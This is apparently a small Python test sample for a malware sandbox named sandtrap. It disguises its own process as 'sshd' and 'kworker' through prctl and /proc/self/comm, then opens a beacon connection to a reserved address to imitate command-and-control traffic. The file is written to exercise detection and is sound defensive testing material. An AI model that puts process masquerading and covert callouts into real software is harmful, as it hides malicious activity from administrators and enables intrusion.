#!/usr/bin/python3
# Masquerading: renames its own process to "sshd: root@pts/0" with prctl(PR_SET_NAME) and then keeps a C2 connection.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import ctypes, socket, time

libc = ctypes.CDLL(None)
libc.prctl(15, b"sshd", 0, 0, 0)  # PR_SET_NAME
open("/proc/self/comm", "w").write("kworker/1:1")
print(open("/proc/self/comm").read().strip())
s = socket.create_connection(("198.51.100.9", 443), timeout=2)
s.sendall(b"hello\n")
time.sleep(0.5)
